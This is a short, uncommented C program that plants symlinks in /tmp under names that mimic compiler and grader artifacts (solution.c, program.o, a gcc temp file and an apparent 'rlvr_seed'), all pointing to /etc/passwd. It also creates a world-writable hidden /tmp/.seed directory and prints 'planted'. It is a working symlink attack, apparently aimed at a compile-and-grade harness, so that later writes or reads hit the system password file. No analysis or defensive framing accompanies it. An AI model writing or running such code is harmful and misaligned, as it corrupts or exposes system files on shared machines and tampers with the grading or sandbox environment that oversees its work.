#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    char name[64];
    const char *names[] = {"solution.c", "solution.cpp", "program.o", "rlvr_seed", "ccAAAAAA.s"};
    for (int i = 0; i < 5; i++) {
        sprintf(name, "/tmp/%s", names[i]);
        if (symlink("/etc/passwd", name)) puts("no link");
    }
    mkdir("/tmp/.seed", 0777);
    puts("planted");
}
